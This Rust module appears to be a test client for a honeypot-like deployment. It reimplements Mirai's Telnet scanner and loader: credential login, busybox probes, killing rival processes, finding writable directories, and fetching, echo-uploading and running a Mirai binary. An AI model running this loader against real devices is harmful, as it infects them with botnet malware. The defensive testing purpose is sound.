//! A client that talks as Mirai's scanner and loader do, for checking a deployment, for
//! the tests and for the benchmark: it answers option negotiation as Mirai does, waits for
//! what Mirai waits for, and sends what Mirai sends, in the order its public source does
//! (`loader/src/server.c`, `connection.c`; `bot/scanner.c`). The steps are written from
//! reading that source; nothing of it is copied.
//!
//! Blocking, over any `Read + Write` (a `TcpStream` with a read timeout): each wait gives
//! up after the stream's timeout with the text seen so far in the error.

use std::io::{self, Read, Write};
use std::time::Duration;

use super::protocol::code::*;

/// How the client's lines go out: whole, cut into pieces of `n` bytes written apart (a
/// segment each, with `TCP_NODELAY`), or several lines in one write.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Pace {
    /// One write per line.
    Whole,
    /// Each line in pieces of this many bytes, with a pause between.
    Split(usize),
}

/// A Mirai-like client on `stream`.
pub struct Bot<S> {
    stream: S,
    /// Server data seen and not yet consumed by a wait (Telnet commands removed).
    seen: Vec<u8>,
    /// Every data byte the server sent.
    pub transcript: Vec<u8>,
    /// A Telnet command cut by the network, waiting for its end.
    pending: Vec<u8>,
    pace: Pace,
}

impl<S: Read + Write> Bot<S> {
    /// A client on `stream`.
    pub fn new(stream: S, pace: Pace) -> Self {
        Bot {
            stream,
            seen: Vec::new(),
            transcript: Vec::new(),
            pending: Vec::new(),
            pace,
        }
    }

    /// The stream.
    pub fn stream(&mut self) -> &mut S {
        &mut self.stream
    }

    /// Sends `line` and `\r\n`, paced.
    pub fn send(&mut self, line: &[u8]) -> io::Result<()> {
        let mut data = line.to_vec();
        data.extend_from_slice(b"\r\n");
        self.send_raw(&data)
    }

    /// Sends several lines in one write: what a loader's coalesced commands look like.
    pub fn send_together(&mut self, lines: &[&[u8]]) -> io::Result<()> {
        let mut data = Vec::new();
        for l in lines {
            data.extend_from_slice(l);
            data.extend_from_slice(b"\r\n");
        }
        self.stream.write_all(&data)
    }

    fn send_raw(&mut self, data: &[u8]) -> io::Result<()> {
        match self.pace {
            Pace::Whole => self.stream.write_all(data),
            Pace::Split(n) => {
                for piece in data.chunks(n.max(1)) {
                    self.stream.write_all(piece)?;
                    self.stream.flush()?;
                    std::thread::sleep(Duration::from_millis(2));
                }
                Ok(())
            }
        }
    }

    /// Reads until `needle` has been seen; returns the data up to and including it.
    pub fn expect(&mut self, needle: &[u8]) -> io::Result<Vec<u8>> {
        self.expect_any(&[needle]).map(|(_, text)| text)
    }

    /// Reads until one of `needles` has been seen; returns which and the data up to and
    /// including it.
    pub fn expect_any(&mut self, needles: &[&[u8]]) -> io::Result<(usize, Vec<u8>)> {
        let mut buf = [0u8; 4096];
        loop {
            let hit = needles
                .iter()
                .enumerate()
                .filter_map(|(i, n)| find(&self.seen, n).map(|at| (at + n.len(), i)))
                .min();
            if let Some((end, i)) = hit {
                let text: Vec<u8> = self.seen.drain(..end).collect();
                return Ok((i, text));
            }
            let n = match self.stream.read(&mut buf) {
                Ok(0) => {
                    return Err(io::Error::new(
                        io::ErrorKind::UnexpectedEof,
                        format!(
                            "closed while waiting; saw {:?}",
                            String::from_utf8_lossy(&self.seen)
                        ),
                    ))
                }
                Ok(n) => n,
                Err(e) => {
                    return Err(io::Error::new(
                        e.kind(),
                        format!(
                            "{e} while waiting for {:?}; saw {:?}",
                            needles
                                .iter()
                                .map(|n| String::from_utf8_lossy(n))
                                .collect::<Vec<_>>(),
                            String::from_utf8_lossy(&self.seen)
                        ),
                    ))
                }
            };
            let replies = self.take(&buf[..n]);
            if !replies.is_empty() {
                self.stream.write_all(&replies)?;
            }
        }
    }

    /// Strips Telnet commands from `data` into `seen`, answering as Mirai's scanner does:
    /// `DO` is refused but for NAWS (agreed, with an 80x24 window), `WILL` is agreed to.
    fn take(&mut self, data: &[u8]) -> Vec<u8> {
        let mut replies = Vec::new();
        let mut i = 0;
        let all = [std::mem::take(&mut self.pending), data.to_vec()].concat();
        while i < all.len() {
            if all[i] != IAC {
                self.seen.push(all[i]);
                self.transcript.push(all[i]);
                i += 1;
                continue;
            }
            let cut = match all.get(i + 1) {
                None => true,
                Some(&(DO | DONT | WILL | WONT)) => all.len() < i + 3,
                _ => false,
            };
            if cut {
                // A command cut by the network: keep it for the next read.
                self.pending = all[i..].to_vec();
                break;
            }
            match all.get(i + 1) {
                Some(&IAC) => {
                    self.seen.push(IAC);
                    self.transcript.push(IAC);
                    i += 2;
                }
                Some(&DO) => {
                    let opt = all[i + 2];
                    if opt == NAWS {
                        replies.extend_from_slice(&[
                            IAC, WILL, NAWS, IAC, SB, NAWS, 0, 80, 0, 24, IAC, SE,
                        ]);
                    } else {
                        replies.extend_from_slice(&[IAC, WONT, opt]);
                    }
                    i += 3;
                }
                Some(&WILL) => {
                    replies.extend_from_slice(&[IAC, DO, all[i + 2]]);
                    i += 3;
                }
                Some(&DONT) | Some(&WONT) => i += 3,
                Some(&SB) => {
                    let end = find(&all[i..], &[IAC, SE]).map(|e| i + e + 2);
                    match end {
                        Some(e) => i = e,
                        None => {
                            self.pending = all[i..].to_vec();
                            break;
                        }
                    }
                }
                _ => i += 2,
            }
        }
        replies
    }
}

/// Where `needle` starts in `hay`.
pub fn find(hay: &[u8], needle: &[u8]) -> Option<usize> {
    if needle.is_empty() {
        return Some(0);
    }
    hay.windows(needle.len()).position(|w| w == needle)
}

/// Waits for a login prompt and a password prompt as Mirai does, answering each.
pub fn login<S: Read + Write>(bot: &mut Bot<S>, user: &str, pass: &str) -> io::Result<()> {
    bot.expect_any(&[b"ogin", b"enter", b"sername"])?;
    bot.expect_any(&[b":", b">"])?;
    bot.send(user.as_bytes())?;
    bot.expect(b"assword")?;
    bot.expect_any(&[b":", b">"])?;
    bot.send(pass.as_bytes())
}

/// What a scanner's dialog found.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Scanned {
    /// Whether the device answered the token query with `TOKEN: applet not found`.
    pub verified: bool,
    /// Everything it printed.
    pub text: Vec<u8>,
}

/// Mirai's scanner on a fresh connection: waits for a login prompt, sends the pair, then
/// `enable`, `system`, `shell`, `sh` and `/bin/busybox TOKEN`, and waits for the answer.
pub fn scan<S: Read + Write>(
    bot: &mut Bot<S>,
    user: &str,
    pass: &str,
    token: &str,
) -> io::Result<Scanned> {
    login(bot, user, pass)?;
    for w in ["enable", "system", "shell", "sh"] {
        bot.send(w.as_bytes())?;
    }
    bot.send(format!("/bin/busybox {token}").as_bytes())?;
    let want = format!("{token}: applet not found");
    let (i, _) = bot.expect_any(&[want.as_bytes(), b"ncorrect", b"denied"])?;
    Ok(Scanned {
        verified: i == 0,
        text: bot.transcript.clone(),
    })
}

/// What a loader's dialog found and did.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Loaded {
    /// The directory it chose to write in.
    pub dir: String,
    /// The architecture it read from `/bin/echo` (Mirai's names: arm, arm7, mips, mpsl, …).
    pub arch: String,
    /// How it uploaded: `wget`, `tftp` or `echo`.
    pub method: String,
    /// The PIDs it killed after reading `ps`.
    pub killed: Vec<u32>,
}

/// Mirai's loader after a login (the scanner's pair): token `TOKEN`; it reads `ps`,
/// `/proc/mounts`, tests each writable mount with `.nippon`, copies `/bin/echo`, reads it
/// for the CPU (and `/proc/cpuinfo` on ARM), asks for `wget` and `tftp`, and uploads
/// `dropper` with `echo -ne` lines of 128 bytes when neither exists (or points `wget` at
/// `http_server` when one does), then runs it.
pub fn load<S: Read + Write>(
    bot: &mut Bot<S>,
    user: &str,
    pass: &str,
    token: &str,
    dropper: &[u8],
    http_server: &str,
) -> io::Result<Loaded> {
    let answer = format!("{token}: applet not found");
    let answer = answer.as_bytes();
    let query = format!("/bin/busybox {token}");
    let mut out = Loaded::default();
    login(bot, user, pass)?;
    bot.expect_any(&[b"#", b"$", b">", b"%"])?;
    bot.send_together(&[b"enable", b"system", b"shell", b"sh"])?;
    bot.send(query.as_bytes())?;
    bot.expect(answer)?;
    bot.send(format!("/bin/busybox ps; {query}").as_bytes())?;
    let ps = bot.expect(answer)?;
    for line in ps.split(|&b| b == b'\n') {
        let text = String::from_utf8_lossy(line);
        let mut f = text.split_whitespace();
        let (Some(pid), Some(name)) = (f.next(), f.nth(3).or(None)) else {
            continue;
        };
        let Ok(pid) = pid.parse::<u32>() else {
            continue;
        };
        if pid > 400
            && name.chars().any(|c| c.is_ascii_digit())
            && !name.chars().any(|c| c.is_ascii_alphabetic())
        {
            out.killed.push(pid);
            bot.send(format!("/bin/busybox kill -9 {pid}").as_bytes())?;
        }
    }
    bot.send(format!("/bin/busybox cat /proc/mounts; {query}").as_bytes())?;
    let mounts = bot.expect(answer)?;
    let mut probes = Vec::new();
    for line in String::from_utf8_lossy(&mounts).lines() {
        let f: Vec<&str> = line.split_whitespace().collect();
        if let [_, path, _, opts, ..] = f.as_slice() {
            if opts.contains("rw") && path.starts_with('/') {
                let path = path.trim_end_matches('/');
                probes.push(path.to_string());
            }
        }
    }
    let nippon = r"\x6b\x61\x6d\x69";
    for p in &probes {
        bot.send(format!("/bin/busybox echo -e '{nippon}{p}' > {p}/.nippon; /bin/busybox cat {p}/.nippon; /bin/busybox rm {p}/.nippon").as_bytes())?;
    }
    bot.send(format!("/bin/busybox echo -e '{nippon}/dev' > /dev/.nippon; /bin/busybox cat /dev/.nippon; /bin/busybox rm /dev/.nippon").as_bytes())?;
    bot.send(query.as_bytes())?;
    let written = bot.expect(answer)?;
    let text = String::from_utf8_lossy(&written);
    // The first "kami<dir>" the device printed back, on a line of its own.
    out.dir = text
        .lines()
        .filter_map(|l| l.trim_end_matches('\r').strip_prefix("kami"))
        .find(|d| d.starts_with('/'))
        .map(str::to_string)
        .ok_or_else(|| io::Error::other(format!("no writable directory in {text:?}")))?;
    for p in &probes {
        bot.send(format!("rm {p}/.t; rm {p}/.sh; rm {p}/.human").as_bytes())?;
    }
    let (bin, drop) = ("dvrHelper", "upnp");
    bot.send_together(&[
        format!("cd {}/", out.dir).as_bytes(),
        format!("/bin/busybox cp /bin/echo {bin}; >{bin}; /bin/busybox chmod 777 {bin}; {query}")
            .as_bytes(),
    ])?;
    bot.expect(answer)?;
    bot.send(b"/bin/busybox cat /bin/echo")?;
    bot.send(query.as_bytes())?;
    let echo = bot.expect(answer)?;
    let at = find(&echo, b"ELF").ok_or_else(|| io::Error::other("no ELF header in /bin/echo"))?;
    let hdr = echo.get(at.saturating_sub(1)..).unwrap_or_default();
    // The header went through a terminal: a \n became \r\n. Undo that before reading it.
    let hdr = undo_onlcr(hdr);
    let (data, machine) = match (hdr.get(5), hdr.get(18..20)) {
        (Some(&d), Some(m)) => (
            d,
            if d == 2 {
                u16::from_be_bytes([m[0], m[1]])
            } else {
                u16::from_le_bytes([m[0], m[1]])
            },
        ),
        _ => return Err(io::Error::other("short ELF header")),
    };
    out.arch = match machine {
        40 | 183 => "arm",
        8 | 10 if data == 1 => "mpsl",
        8 | 10 => "mips",
        3 | 6 | 7 | 62 => "x86",
        2 | 18 | 43 => "spc",
        4 | 5 => "m68k",
        20 | 21 => "ppc",
        42 => "sh4",
        _ => return Err(io::Error::other(format!("unknown machine {machine}"))),
    }
    .to_string();
    if out.arch == "arm" {
        bot.send(format!("cat /proc/cpuinfo; {query}").as_bytes())?;
        let cpu = bot.expect(answer)?;
        if find(&cpu, b"ARMv7").is_some() || find(&cpu, b"ARMv6").is_some() {
            out.arch = "arm7".into();
        }
    }
    bot.send(format!("/bin/busybox wget; /bin/busybox tftp; {query}").as_bytes())?;
    let methods = bot.expect(answer)?;
    out.method = if find(&methods, b"wget: applet not found").is_none() {
        "wget"
    } else if find(&methods, b"tftp: applet not found").is_none() {
        "tftp"
    } else {
        "echo"
    }
    .into();
    match out.method.as_str() {
        "echo" => {
            bot.send(format!("/bin/busybox cp {bin} {drop}; > {drop}; /bin/busybox chmod 777 {drop}; {query}").as_bytes())?;
            bot.expect(answer)?;
            for (i, chunk) in dropper.chunks(128).enumerate() {
                let hex: String = chunk.iter().map(|b| format!("\\x{b:02x}")).collect();
                let op = if i == 0 { ">" } else { ">>" };
                bot.send(format!("echo -ne '{hex}' {op} {drop}; {query}").as_bytes())?;
                bot.expect(answer)?;
            }
            bot.send(
                format!("./{drop}; ./{bin} telnet.{}; /bin/busybox IHCCE", out.arch).as_bytes(),
            )?;
        }
        "wget" => {
            bot.send(format!("/bin/busybox wget http://{http_server}/bins/mirai.{} -O - > {bin}; /bin/busybox chmod 777 {bin}; {query}", out.arch).as_bytes())?;
            bot.expect(answer)?;
            bot.send(format!("./{bin} telnet.{}; /bin/busybox IHCCE", out.arch).as_bytes())?;
        }
        _ => {
            bot.send(format!("/bin/busybox tftp -g -l {bin} -r mirai.{} {http_server}; /bin/busybox chmod 777 {bin}; {query}", out.arch).as_bytes())?;
            bot.expect(answer)?;
            bot.send(format!("./{bin} telnet.{}; /bin/busybox IHCCE", out.arch).as_bytes())?;
        }
    }
    bot.expect(b"IHCCE: applet not found")?;
    bot.send(format!("rm -rf {drop}; > {bin}; {query}").as_bytes())?;
    bot.expect(answer)?;
    Ok(out)
}

/// A terminal's `\r\n` back to `\n`.
fn undo_onlcr(data: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(data.len());
    let mut i = 0;
    while i < data.len() {
        if data[i] == b'\r' && data.get(i + 1) == Some(&b'\n') {
            i += 1;
            continue;
        }
        out.push(data[i]);
        i += 1;
    }
    out
}
